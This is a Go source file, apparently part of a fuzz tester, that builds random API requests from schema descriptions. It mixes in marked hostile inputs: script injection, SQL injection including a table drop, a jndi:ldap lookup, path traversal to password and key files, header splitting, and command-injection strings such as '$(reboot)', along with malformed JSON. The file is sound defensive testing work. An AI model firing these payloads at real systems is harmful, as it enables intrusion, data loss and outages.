package app

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
)

// mark stands in everything hostile, so that an answer that repeats it is found out.
const mark = "crawl7331"

// hostileTexts are what people send who want something else than an answer.
var hostileTexts = []string{
	"<script>alert('" + mark + "')</script>", `"><img src=x onerror=` + mark + `()>`, `' or 1=1 -- ` + mark, "'; drop table cases; -- " + mark,
	`" union select * from staff -- ` + mark, "{{7*7}}" + mark, "${jndi:ldap://" + mark + ".example/x}", "{{.Key}}" + mark, "../../../../etc/passwd#" + mark, `..\..\keys\master.key` + mark,
	"%2e%2e%2f" + mark, "x\r\nX-Crawl: " + mark + "\r\n\r\n<b>", mark + "\x00", mark + "\u202e\u2066\ufeff\u0301\u0301", "\xff\xfe" + mark, mark + "\U0001F4A5\U000E0041", strings.Repeat(mark, 900),
	strings.Repeat("长", 3000) + mark, "=HYPERLINK(\"http://" + mark + "\")", "javascript:alert('" + mark + "')", "-1", "0", "9223372036854775808", "1e400", "NaN", "null", "true", "[]", " ", "",
	"2026-02-30", "0000-00-00", "9999-12-31T25:61:61Z", "%s%n%d" + mark, "$(reboot)" + mark, "`id`" + mark, "\u0000", "{words:" + mark, "NEAR(" + mark, `""""` + mark, "*" + mark,
}

// hostileValues are what JSON can hold and a program does not expect; some is no JSON.
var hostileValues = []string{
	"null", "true", "[]", "{}", "-1", "0", "1e308", "1e400", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "0.1e-400", `"\ud800"`, `"\u0000"`, "\"\xff\"",
	strings.Repeat("[", 3000) + strings.Repeat("]", 3000), strings.Repeat(`{"a":`, 1500) + "1" + strings.Repeat("}", 1500), "[" + strings.Repeat("1,", 5000) + "1]", `{"` + mark + `":{"__proto__":{}}}`, "nul", `"`, "{", `{"a":1,"a":2}`,
}

// generator makes up requests, the same for the same seed.
type generator struct {
	*rand.Rand
	known   []string // what there is: cases, units, matters, actions, days
	schemas map[string]shape
}

// shape is what the generator reads of a description.
type shape struct {
	Ref        string           `json:"$ref"`
	Type       any              `json:"type"`
	Enum       []any            `json:"enum"`
	Properties map[string]shape `json:"properties"`
	Required   []string         `json:"required"`
	Items      *shape           `json:"items"`
}

func (g *generator) chance(percent int) bool { return g.IntN(100) < percent }

func pick[T any](g *generator, from []T) T { return from[g.IntN(len(from))] }

// text is something known, something hostile, or both.
func (g *generator) text() string {
	switch g.IntN(5) {
	case 0, 1:
		return pick(g, g.known)
	case 2:
		return pick(g, g.known) + pick(g, hostileTexts)
	default:
		return pick(g, hostileTexts)
	}
}

// value is JSON, mostly, after a schema, mostly.
func (g *generator) value(s shape, deep int) string {
	if name, ok := strings.CutPrefix(s.Ref, "#/components/schemas/"); ok {
		s = g.schemas[name]
	}
	if deep > 6 || g.chance(6) {
		return pick(g, hostileValues)
	}
	if len(s.Enum) > 0 && g.chance(80) {
		raw, err := json.Marshal(pick(g, s.Enum))
		if err == nil {
			return string(raw)
		}
	}
	kind := fmt.Sprint(s.Type)
	switch {
	case strings.Contains(kind, "object"):
		return g.object(s, deep)
	case strings.Contains(kind, "array"):
		items := shape{Type: "string"}
		if s.Items != nil {
			items = *s.Items
		}
		var out []string
		for range g.IntN(3) {
			out = append(out, g.value(items, deep+1))
		}
		return "[" + strings.Join(out, ",") + "]"
	case strings.Contains(kind, "integer"), strings.Contains(kind, "number"):
		if g.chance(70) {
			return fmt.Sprint(g.IntN(7))
		}
	case strings.Contains(kind, "boolean"):
		return pick(g, []string{"true", "false"})
	}
	return quote(g.text())
}

func (g *generator) object(s shape, deep int) string {
	var names []string
	for n := range s.Properties {
		names = append(names, n)
	}
	slices.Sort(names)
	var out []string
	for _, n := range names {
		if slices.Contains(s.Required, n) && g.chance(97) || g.chance(50) {
			out = append(out, quote(n)+":"+g.value(s.Properties[n], deep+1))
		}
	}
	if len(s.Properties) == 0 { // anything may stand in it: what actions ask for
		for range g.IntN(4) {
			out = append(out, quote(pick(g, []string{"matter", "unit", "reason", "text", "answer", "result", "files", "note", "means", "phone", "explain", "to", "area", mark}))+":"+quote(g.text()))
		}
	}
	if g.chance(4) {
		out = append(out, quote(g.text())+":"+pick(g, hostileValues))
	}
	return "{" + strings.Join(out, ",") + "}"
}

// quote writes a text as JSON and leaves what is no UTF-8 as it is.
func quote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, c := range []byte(s) {
		switch {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < ' ':
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}
